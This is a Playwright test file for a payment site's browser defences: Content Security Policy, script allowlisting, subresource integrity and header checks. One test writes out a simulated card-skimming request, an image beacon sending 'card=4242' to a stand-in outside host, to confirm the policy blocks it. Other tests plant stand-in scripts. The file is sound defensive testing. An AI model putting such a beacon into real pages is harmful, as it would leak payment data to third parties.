import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { type Page, expect, test } from '@playwright/test'
import * as z from 'zod/mini'
import { fillDetails, goOn, typeCard } from '../../checkout/e2e/steps.ts'
import { newGuest } from '../../e2e/guest.ts'
import { declaredApps } from '../declaredApps.ts'

const named = z.record(z.string(), z.string())
const rules = z.object({ headers: z.record(z.string(), named), outside: named })
const integrity = z.object({ integrity: z.record(z.string(), z.string()) })
const page = `claim/#${btoa('WELCOME25')}`

test('the policy blocks an inline script', async ({ page: tab }) => {
  await tab.goto(page)
  const stopped = tab.evaluate(
    () => new Promise((done) => document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective))),
  )
  await tab.evaluate(() => {
    const script = document.createElement('script')
    script.append('document.title = "planted"')
    document.head.append(script)
  })
  expect(await stopped).toMatch(/^(script-src|require-trusted-types-for)/)
  expect(await tab.title()).not.toBe('planted')
})

test('a payment page runs the build’s scripts and the payment provider’s, and no other', async ({ page: tab, baseURL }) => {
  const scripts: string[] = []
  tab.on('request', (request) => request.resourceType() === 'script' && scripts.push(request.url()))
  await fillDetails(tab, newGuest('inventory', null))
  await goOn(tab)
  await typeCard(tab)
  const { origin, pathname } = new URL(baseURL ?? '')
  const known = [`${origin}${pathname}assets/`, `${origin}/__sandbox/stripe/`]
  expect(scripts.length).toBeGreaterThan(5)
  expect(scripts.filter((url) => !known.some((start) => url.startsWith(start)))).toEqual([])
})

const integrityOf = async (tab: Page) =>
  z.parse(integrity, JSON.parse((await tab.locator('script[type=importmap]').textContent()) ?? '{}')).integrity

test('LAW-05 the browser runs no script of a payment page that is not as it was built', async ({ page: tab, baseURL }) => {
  const scripts = new Map<string, string>()
  tab.on('response', async (response) => {
    const { pathname } = new URL(response.url())
    if (response.request().resourceType() === 'script' && pathname.includes('/assets/'))
      scripts.set(
        `../assets/${basename(pathname)}`,
        `sha256-${createHash('sha256')
          .update(await response.body())
          .digest('base64')}`,
      )
  })
  await fillDetails(tab, newGuest('integrity', null))
  const known = await integrityOf(tab)
  expect(scripts.size).toBeGreaterThan(5)
  expect([...scripts].filter(([url, digest]) => known[url] !== digest)).toEqual([])

  const planted = await tab.context().newPage()
  const entry = Object.keys(known).find((url) => url.includes('/checkout-')) ?? ''
  await planted.route(new URL(entry, new URL('checkout/', baseURL)).href, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'document.title = "planted"' }),
  )
  const refused = planted.waitForEvent('console', (message) => message.text().includes('integrity'))
  await planted.goto('checkout/?ico_id=ico-100')
  await refused
  expect(await planted.title()).not.toBe('planted')
})

test('LAW-05 each page that takes payments, and no other, names the digests of its scripts', async ({ request }) => {
  for (const { name, settings = [] } of await declaredApps())
    expect((await (await request.get(`${name}/`)).text()).includes('type="importmap"'), name).toBe(settings.includes('chargeLimits'))
})

test('LAW-05 the deployment’s signals receive what the policy has blocked', async ({ page: tab }) => {
  await tab.goto(page)
  const reported = tab.evaluate(
    () => new Promise((done) => Object.assign(window, { platewell: { onSignal: (signal: { message?: string }) => done(signal.message) } })),
  )
  await tab.evaluate(() => new Image().setAttribute('src', 'https://elsewhere.example/pixel.gif?card=4242'))
  expect(await reported).toBe('Blocked by the policy img-src: https://elsewhere.example/pixel.gif')
})

test(
  'pages, hashed files and all others have the headers that the build lists',
  { tag: '@each-enterprise' },
  async ({ request }, { project }) => {
    const { headers, outside } = rules.parse(
      JSON.parse(readFileSync(join(process.env['DIST'] ?? 'dist', project.name, 'hosting.json'), 'utf8')),
    )
    const answer = await request.get('claim/')
    const html = await answer.text()
    const script = /src="\.\.\/(assets\/[^"]+)"/.exec(html)?.[1] ?? ''
    const file = await request.get(script)

    const wanted = (pattern: string): [string, string][] => Object.entries({ ...headers['/*'], ...headers[pattern] })
    for (const [name, value] of wanted('/claim/*')) expect(answer.headers()[name.toLowerCase()]).toBe(value)
    for (const [name, value] of wanted('/assets/*')) expect(file.headers()[name.toLowerCase()]).toBe(value)
    const other = await request.get('enterprise.json')
    const wantedOutside = Object.entries({ ...headers['/*'], ...outside })
    for (const [name, value] of wantedOutside) expect(other.headers()[name.toLowerCase()]).toBe(value)
  },
)
